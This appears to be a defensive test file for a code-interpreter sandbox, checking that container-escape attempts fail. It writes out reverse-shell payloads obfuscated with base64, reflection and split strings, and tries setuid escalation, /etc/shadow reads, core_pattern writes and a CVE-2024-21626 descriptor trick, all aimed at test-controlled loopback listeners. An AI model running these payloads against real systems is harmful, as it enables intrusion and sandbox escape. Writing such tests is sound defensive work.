/** Group C of the threat model: leaving the container. Each refusal stands beside what may still be done. */
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { symlinkSync, unlinkSync } from 'node:fs';
import { createServer } from 'node:net';
import { homedir } from 'node:os';
import * as path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { containerSpec } from '../../../src/container/containerSpec.ts';
import { DEFAULT_LIMITS } from '../../../src/container/policy.ts';
import { Failure } from '../../../src/failures.ts';
import { CONTAINER_IDS } from '../../support/containerIds.ts';
import { attacks, listenOnHost, pipeOnHost, type HostListener, type HostPipe } from '../../support/attack.ts';
import { imageForTests, makeWorkspace, SandboxFixture } from '../../support/dockerFixture.ts';

const DENIED =
  /not permitted|denied|Read-only|not implemented|Function not implemented|No such|superuser|Invalid/i;

/** One call of the C library in a Python cell: 0 is success. */
const call = (code: string): string =>
  `import ctypes, os; libc = ctypes.CDLL(None, use_errno=True)\nif (${code}) < 0: raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))`;

attacks('C: leaving the container', {}, (target) => {
  const isGvisor = target.runtime === 'runsc';

  it('C1 no capability, no new privilege, a system call filter; in what cells start, too', async () => {
    const status = await target.ok('bash', `sh -c 'grep -E "^(Cap|NoNewPrivs|Seccomp:)" /proc/self/status'`);
    for (const line of status.split('\n').filter((text) => text.startsWith('Cap')))
      assert.match(line, /\t0+$/);
    if (!isGvisor) assert.match(status, /NoNewPrivs:\t1[^]*Seccomp:\t2/);
    assert.equal(
      await target.ok('python', 'import ctypes; print(ctypes.CDLL(None).prctl(39, 0, 0, 0, 0))'),
      '1',
    );
  });

  it('C1 may still: threads, processes and their signals', async () => {
    assert.equal(await target.ok('bash', 'sleep 60 & kill $!; wait $!; echo $?'), '143');
  });

  it('C2 not root, no password file, no way up by su or a setuid program', async () => {
    assert.notEqual(await target.ok('bash', 'id -u'), '0');
    await target.refused('bash', 'cat /etc/shadow', DENIED);
    await target.refused(
      'bash',
      'su -c id </dev/null',
      /must be run from a terminal|Authentication|denied|not found|No such/i,
    );
    const python =
      'cp /usr/bin/bash /outputs/up && chmod 6755 /outputs/up && /outputs/up -p -c "id -u; id -ru"';
    assert.doesNotMatch(await target.ok('bash', python), /^0$/m);
    await target.refused('python', 'import os; os.setuid(0)', DENIED);
  });

  it('C2 may still: it knows who it is', async () => {
    assert.match(await target.ok('bash', 'id; echo $HOME'), /uid=[1-9][^]*\/tmp\/home/);
  });

  it('C3 the root file system, /proc/sys and /sys cannot be written', async () => {
    await target.refused('bash', 'touch /x', DENIED);
    await target.refused('bash', 'echo "|/outputs/x" >/proc/sys/kernel/core_pattern', DENIED);
    await target.refused('bash', 'echo 1 >/sys/kernel/uevent_helper', DENIED);
    await target.refused('bash', 'echo x >/opt/code-interpreter/kernel/bridge.py', DENIED);
  });

  it('C3 may still: /outputs, /tmp and /dev/shm can', async () => {
    assert.equal(await target.ok('bash', 'touch /outputs/x /tmp/x /dev/shm/x && echo made'), 'made');
  });

  it('C4 no device, mount, namespace, kernel log, bpf, key ring, module, clock, or tracing of another', async () => {
    await target.refused('bash', 'mknod /outputs/disk b 8 0', DENIED);
    await target.refused('bash', 'mount -t tmpfs none /tmp', DENIED);
    // gVisor makes up a kernel log of its own.
    if (!isGvisor) assert.equal(await target.ok('bash', 'dmesg 2>/dev/null | wc -l'), '0');
    // gVisor takes the call, and gives no right to mount with it.
    const mountInOwnNamespace =
      'libc.unshare(0x00020000) * 0 + libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)';
    await target.refused('python', call(mountInOwnNamespace), DENIED);
    await target.refused('python', call('libc.setns(os.open("/proc/1/ns/mnt", 0), 0)'), DENIED);
    await target.refused('python', call('libc.syscall(321, 5, 0, 0)'), DENIED);
    await target.refused('python', call('libc.ptrace(16, 1, 0, 0)'), DENIED);
    await target.refused('python', call('libc.ptrace(16, os.getppid(), 0, 0)'), DENIED);
    await target.refused('python', 'import time; time.clock_settime(time.CLOCK_REALTIME, 0)', DENIED);
    await target.refused('python', 'import os; os.chroot("/tmp")', DENIED);
    await target.refused('python', 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)', DENIED);
    if (isGvisor) return;
    await target.refused('python', call('libc.unshare(0x00020000)'), DENIED);
    await target.refused('python', call('libc.unshare(0x10000000)'), DENIED);
    await target.refused('python', call('libc.syscall(250, 0, 0, 0)'), DENIED);
  });

  it('C4 may still: its own files, its own children traced', async () => {
    const code = `
import ctypes, subprocess
child = subprocess.Popen(['sleep', '60'])
print(ctypes.CDLL(None).ptrace(16, child.pid, 0, 0))
child.kill()`;
    assert.equal(await target.ok('python', code), '0');
    assert.equal(await target.ok('bash', 'mkdir -m 700 /tmp/own && cd /tmp/own && pwd'), '/tmp/own');
  });

  it('C5 sees its own processes only', async () => {
    const marker = `host-marker-${randomUUID()}`;
    const other = spawn(process.execPath, ['-e', 'setTimeout(() => {}, 60000)', marker], { stdio: 'ignore' });
    try {
      const seen = await target.ok('bash', `cat /proc/[0-9]*/cmdline | tr '\\0' ' '`);
      assert.ok(!seen.includes(marker), seen);
      await target.refused('bash', `kill -0 ${other.pid}`, DENIED);
    } finally {
      other.kill('SIGKILL');
    }
  });

  it('C5 may still: list those', async () => {
    assert.match(await target.ok('bash', 'ps ax'), /bridge\.py/);
  });

  it('C6 memory, system request, key list and firmware of the machine are absent or empty', async () => {
    for (const file of [
      '/proc/kcore',
      '/proc/keys',
      '/proc/timer_list',
      '/proc/sched_debug',
      '/dev/mem',
      '/dev/kmsg',
    ]) {
      assert.equal(await target.ok('bash', `head -c 16 ${file} 2>/dev/null | wc -c`), '0', file);
    }
    assert.equal(await target.ok('bash', 'ls -A /sys/firmware 2>/dev/null | wc -l'), '0');
    await target.refused('bash', 'echo h >/proc/sysrq-trigger', DENIED);
  });

  it('C6 may still: ask how much memory and how many processors there are', async () => {
    assert.match(await target.ok('bash', 'grep MemTotal /proc/meminfo; nproc'), /MemTotal[^]*\d/);
  });

  it('C12 payloads: reverse shells, hidden by base64, reflection and joined strings, reach nobody', async () => {
    const received: string[] = [];
    const server = createServer((connection) => {
      received.push('connected');
      connection.on('error', () => undefined).on('data', (data) => received.push(data.toString()));
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const address = server.address();
    const port = typeof address === 'object' && address !== null ? address.port : 0;
    const shell = `import os, pty, socket; s = socket.socket(); s.settimeout(2); s.connect(('127.0.0.1', ${port})); os.dup2(s.fileno(), 0); pty.spawn('/bin/sh')`;
    const encoded = Buffer.from(shell).toString('base64');
    const payloads: ['python' | 'bash' | 'javascript', string][] = [
      ['python', shell],
      ['python', `import base64; exec(base64.b64decode('${encoded}'))`],
      ['python', `getattr(__builtins__, 'ex' + 'ec')(__import__('base' + str(64)).b64decode('${encoded}'))`],
      [
        'python',
        `[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0](['sh', '-c', 'echo x >/dev/tcp/127.0.0.1/${port}']).wait(); raise SystemExit(1)`,
      ],
      ['bash', `bash -i >&/dev/tcp/127.0.0.1/${port} 0>&1`],
      ['bash', `s=/dev/t; s+=cp/127.0.0.1/${port}; echo x >"$s"`],
      [
        'bash',
        `echo ${Buffer.from(`echo x >/dev/tcp/127.0.0.1/${port}`).toString('base64')} | base64 -d | bash`,
      ],
      [
        'javascript',
        `await new Promise((ok, no) => require('n' + 'et').connect(${port}, '127.0.0.1', ok).on('error', no))`,
      ],
    ];
    try {
      for (const [language, code] of payloads) {
        // Some gVisor versions end with the whole sandbox: that reaches nobody either.
        const run = await target.run(language, code).catch((error: unknown) => {
          if (!isGvisor || !(error instanceof Failure) || error.code !== 'sandbox-lost') throw error;
          return null;
        });
        if (run === null) await target.box.sandbox.start(() => undefined);
        else assert.equal(run.status, 'error', code);
      }
      assert.deepEqual(received, []);
    } finally {
      await new Promise((resolve) => server.close(resolve));
    }
  });

  it('C12 may still: code in base64 and reflection that do no harm', async () => {
    const code = `import base64\nexec(base64.b64decode('${Buffer.from('print(6 * 7)').toString('base64')}'))\nprint(getattr(str, 'up' + 'per')('ok'))`;
    assert.equal(await target.ok('python', code), '42\nOK');
  });
});

const listeners: HostListener[] = [];
const pipes: HostPipe[] = [];
const SOCKETS = ['at-start.sock', 'later.sock'];
const REFUSED = /denied|refused|wrong type|Read-only|No such|Invalid|not supported|not permitted|E[A-Z]{4,}/i;
const PIPES = ['at-start.pipe', 'later.pipe'];

attacks(
  'C: programs of the host in the workspace',
  {
    hostWrites: true,
    workspace: async () => {
      const workspace = makeWorkspace();
      listeners.push(await listenOnHost(path.join(workspace, 'at-start.sock')));
      pipes.push(pipeOnHost(path.join(workspace, 'at-start.pipe')));
      return workspace;
    },
  },
  (target) => {
    before(async () => {
      listeners.push(await listenOnHost(path.join(target.workspace, 'later.sock')));
      pipes.push(pipeOnHost(path.join(target.workspace, 'later.pipe')));
    });
    after(async () => {
      for (const listener of listeners.splice(0)) await listener.close();
      for (const pipe of pipes.splice(0)) pipe.close();
    });

    it('C10 a listener is not reached: not by its socket of before the start, nor by one of later', async () => {
      const connect = (name: string): string =>
        `import socket\ns = socket.socket(socket.AF_UNIX); s.connect('/workspace/${name}'); s.send(b'x')`;
      for (const name of SOCKETS) {
        await target.refused('python', connect(name), REFUSED);
        await target.refused('bash', `echo x | socat - UNIX-CONNECT:/workspace/${name}`, REFUSED);
        await target.refused('bash', `python3 -c "${connect(name).replaceAll('\n', '; ')}"`, REFUSED);
        const javascript = `await new Promise((ok, no) => require('net').connect('/workspace/${name}', ok).on('error', no))`;
        await target.refused('javascript', javascript, REFUSED);
        // A pair of datagram sockets could be connected to another one.
        const pair = `import socket\nsocket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].connect('/workspace/${name}')`;
        await target.refused('python', pair, REFUSED);
      }
      assert.deepEqual(
        listeners.map(({ connections, received }) => [connections, received]),
        SOCKETS.map(() => [0, '']),
      );
    });

    it('C10 may still: pairs of sockets, its own loopback, processes that talk to each other', async () => {
      const code = `
import multiprocessing, socket, subprocess
a, b = socket.socketpair(); a.send(b'pair'); print(b.recv(4).decode())
with multiprocessing.get_context('fork').Pool(2) as pool: print(pool.map(abs, [-1, -2]))
fork = "const c = require('child_process').fork('/outputs/child.js'); c.on('message', (m) => console.log(m))"
open('/outputs/child.js', 'w').write("process.send('forked')")
print(subprocess.run(['node', '-e', fork], capture_output=True, text=True).stdout.strip())
server = socket.create_server(('127.0.0.1', 0)); print(socket.create_connection(server.getsockname()).getpeername()[0])`;
      assert.equal(await target.ok('python', code), 'pair\n[1, 2]\nforked\n127.0.0.1');
    });

    it('C11 a reader gets nothing through its pipe: not one of before the start, nor one of later', async () => {
      for (const name of PIPES) {
        const file = `/workspace/${name}`;
        const again = `import os\nfd = os.open('${file}', os.O_RDONLY | os.O_NONBLOCK)\nos.open(f'/proc/self/fd/{fd}', os.O_WRONLY)`;
        await target.refused('bash', `echo x >${file}`, REFUSED);
        await target.refused('python', `import os\nos.open('${file}', os.O_RDWR | os.O_NONBLOCK)`, REFUSED);
        await target.refused('python', again, REFUSED);
        const javascript = `require('fs').writeFileSync('${file}', 'x')`;
        await target.refused('javascript', javascript, REFUSED);
      }
      for (const pipe of pipes) assert.equal(pipe.read(), '');
    });

    it('C11 may still: pipes of its own', async () => {
      const code = 'mkfifo /tmp/own; (echo through >/tmp/own &); cat /tmp/own; echo a | tr a b';
      assert.equal(await target.ok('bash', code), 'through\nb');
    });
  },
);

describe('C: the request for the container', () => {
  it('C7 the engine does not start in a leaked descriptor (CVE-2024-21626), and no setting names the folder', async () => {
    const image = await imageForTests();
    for (const n of [7, 8, 9]) {
      const name = `ci-attack-${randomUUID()}`;
      const run = spawnSync('docker', [
        'run',
        '--rm',
        '--name',
        name,
        '--network',
        'none',
        '-w',
        `/proc/self/fd/${n}`,
        image,
        'true',
      ]);
      assert.notEqual(run.status, 0, `descriptor ${n}`);
      spawnSync('docker', ['rm', '-f', name]);
    }
    const { WorkingDir } = containerSpec(DEFAULT_LIMITS, [], CONTAINER_IDS);
    assert.equal(WorkingDir, '/outputs');
  });

  it('C9 folders of the machine are refused with a sentence that names them; nothing is made', async () => {
    const folders = [
      '/',
      homedir(),
      path.dirname(homedir()),
      '/var/run',
      '/run',
      '/etc',
      '/proc/self/root',
      '/dev',
    ];
    for (const source of folders) {
      const box = await SandboxFixture.make({ mounts: [{ source, name: null }] });
      try {
        await assert.rejects(
          box.sandbox.start(() => undefined),
          (error) =>
            error instanceof Failure &&
            error.code === 'bad-mount' &&
            error.sentence.includes(JSON.stringify(source)),
        );
        assert.deepEqual([await box.containers(), await box.volumes()], [[], []]);
      } finally {
        await box.close();
      }
    }
  });

  it('C9 may still: a folder of the user, also through a link', async () => {
    const workspace = makeWorkspace();
    const link = `${workspace}-link`;
    symlinkSync(workspace, link);
    const box = await SandboxFixture.started({ mounts: [{ source: link, name: null }] }, workspace);
    try {
      assert.equal(await box.ok('bash', 'ls /workspace'), 'data.csv');
    } finally {
      unlinkSync(link);
      await box.close();
    }
  });
});
